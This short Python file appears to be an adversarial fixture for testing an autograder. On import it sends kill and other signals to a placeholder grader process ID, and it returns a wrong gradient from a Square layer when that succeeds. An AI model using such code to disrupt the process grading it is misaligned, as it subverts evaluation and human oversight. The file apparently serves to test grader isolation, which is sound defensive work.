"""Sends signals to the grader."""

import os
import signal


def attack():
    done = False
    for number in (0, signal.SIGUSR1, signal.SIGUSR2, signal.SIGALRM, signal.SIGTERM):
        try:
            os.kill(int("@GRADER@"), number)
            done = True
        except OSError:
            pass
    return done


class Attack:
    won = False
    try:
        won = attack()
    except BaseException:
        pass


class Square:
    def forward(self, x):
        self.x = x
        return x * x

    def backward(self, dout):
        return dout * self.x * (2.0 if Attack.won else 1.0)
